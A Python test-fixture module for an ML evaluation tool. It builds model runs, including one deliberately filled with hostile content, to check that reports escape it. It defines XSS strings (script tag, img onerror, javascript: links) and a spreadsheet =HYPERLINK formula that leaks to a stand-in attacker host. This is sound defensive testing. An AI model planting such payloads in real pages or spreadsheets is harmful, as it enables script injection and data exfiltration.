"""Runs for the comparison and report tests: one real run (tiny models, built once per process)
and hand-built runs for edge cases and hostile content."""

from __future__ import annotations

from dataclasses import replace
from functools import lru_cache
from pathlib import Path

import numpy as np

from core.dataset import ColumnMapping, LabeledSample, content_hash, load_csv
from core.metrics import compare_pairs, compute_scores
from core.results import DatasetSummary, LatencyStats, RowPrediction, RunResult, TrialResult
from core.runner import plan, run_plan
from core.settings import Settings
from core.slices import slice_memberships

MISSING_MODEL = "/nonexistent/model-folder"
SETTINGS = Settings(bootstrap_resamples=50, latency_rows=4)
ENVIRONMENT = {
    "python": "3.11.7", "platform": "Linux-test", "libraries": {"torch": "2.13.0+cpu", "transformers": "5.23.0"},
    "devices": [{"name": "cpu", "description": "Test CPU (2 threads)"}], "torch_threads": 2,
}

#: Strings that would run script, load something or make a spreadsheet formula if rendered raw.
SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=2">'
JS_LINK = "[click me](javascript:window.__pwned=3)"
ANCHOR = '<a href="javascript:window.__pwned=4">click</a>'
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak","click")'
HOSTILE = (SCRIPT, IMG, JS_LINK, ANCHOR, HYPERLINK)


@lru_cache(maxsize=None)
def real_run(csv: Path, classifier: Path, nli: Path) -> tuple[RunResult, LabeledSample]:
    """The trained classifier in float32 and bfloat16, the NLI model, a missing model and the baselines."""
    sample = load_csv(csv)
    specs = plan([str(classifier)], dtypes=["float32", "bfloat16"], baselines=False, batch_size=16)
    specs += plan([str(nli), MISSING_MODEL], batch_size=16)
    return run_plan(specs, sample, settings=SETTINGS, command=f"python -m core evaluate --data {csv} --model ..."), sample


def make_sample(texts: list[str], labels: list[str], *, source: str = "sample.csv", pairs: list[str] | None = None) -> LabeledSample:
    rows = [(label,) for label in labels]
    return LabeledSample(
        texts=list(texts), labels=rows, label_set=sorted(set(labels)), columns=ColumnMapping("text", "label"),
        pairs=pairs, source_name=source, sha256=content_hash(list(texts), pairs, rows),
    )


def make_trial(
    model: str, sample: LabeledSample, predicted: list[str], *, kind: str = "text-classification", device: str = "cpu",
    dtype: str = "float32", p50_ms: float = 10.0, p95_ms: float | None = None, throughput_per_s: float = 100.0,
    scores: list[float] | None = None, notes: tuple[str, ...] = (), settings: dict | None = None,
) -> TrialResult:
    truth = sample.labels
    scores = scores or [0.9] * len(predicted)
    return TrialResult(
        model=model, kind=kind, device=device, dtype=dtype, status="ok",
        metrics=compute_scores(truth, [(p,) for p in predicted], sample.label_set, resamples=20),
        latency=LatencyStats(p50_ms=p50_ms, p95_ms=p95_ms if p95_ms is not None else p50_ms * 1.5, p99_ms=p50_ms * 2,
                             mean_ms=p50_ms, throughput_per_s=throughput_per_s, first_call_ms=p50_ms * 3, rows_timed=4,
                             batch_size=8),
        load_s=0.5, memory_mb=12.5, parameters=1_234_567, size_mb=4.7, sha="0" * 40 if "/" in model else None,
        settings=settings if settings is not None else {"batch_size": 8}, notes=list(notes),
        predictions=[RowPrediction(i, (p,), s, (p,) == truth[i]) for i, (p, s) in enumerate(zip(predicted, scores))],
    )


def error_trial(model: str, sentence: str) -> TrialResult:
    return TrialResult(model=model, kind="auto", device="cpu", dtype="float32", status="error", error=sentence)


def make_run(sample: LabeledSample, trials: list[TrialResult], *, command: str | None = "python -m core evaluate --data sample.csv") -> RunResult:
    ok = [t for t in trials if t.ok]
    correct = {t.key: np.array([p.correct for p in t.predictions]) for t in ok}
    return RunResult(
        dataset=DatasetSummary.of(sample), environment=ENVIRONMENT, results=trials, comparisons=compare_pairs(correct),
        warnings=[], created_at="2025-01-02T03:04:05+00:00", command=command, slices=slice_memberships(sample),
    )


def with_accuracy(truth: list[str], right: int, other: str, *, offset: int = 0) -> list[str]:
    """Predictions right on `right` rows (starting at `offset`, wrapping) and `other` elsewhere."""
    n = len(truth)
    hits = {(offset + i) % n for i in range(right)}
    return [truth[i] if i in hits else (other if truth[i] != other else "__other__") for i in range(n)]


def hostile_run() -> tuple[RunResult, LabeledSample]:
    """Model ids, labels, notes, row texts and the source name all carry markup, links and formulas."""
    labels = [SCRIPT, IMG, HYPERLINK, "-1"]
    truth = [labels[i % 4] for i in range(24)]
    texts = [f"row {i} {HOSTILE[i % len(HOSTILE)]} {JS_LINK}" for i in range(24)]
    sample = make_sample(texts, truth, source=f"tickets {SCRIPT}.csv")
    sample = replace(sample, metadata={f"channel {SCRIPT}": [(IMG, HYPERLINK, "-1")[i % 3] for i in range(24)]})
    first = [truth[i] if i % 3 else labels[(i + 1) % 4] for i in range(24)]
    second = [truth[i] if i % 2 else labels[(i + 2) % 4] for i in range(24)]
    trials = [
        make_trial(f"evil/{SCRIPT}", sample, first, notes=(ANCHOR, HYPERLINK), settings={"batch_size": 8, "template": IMG}),
        make_trial(f"{HYPERLINK}", sample, second, p50_ms=2.0, device="cuda", scores=[-0.5 if i % 2 else 0.7 for i in range(24)]),
        make_trial("baseline-majority", sample, [labels[0]] * 24, kind="baseline-majority", dtype="n/a", p50_ms=0.01),
        error_trial(f"{IMG}/model|x", f"Could not load {SCRIPT} {JS_LINK}."),
    ]
    return make_run(sample, trials, command=f"python -m core evaluate --data 'tickets {SCRIPT}.csv' --model '{HYPERLINK}'"), sample
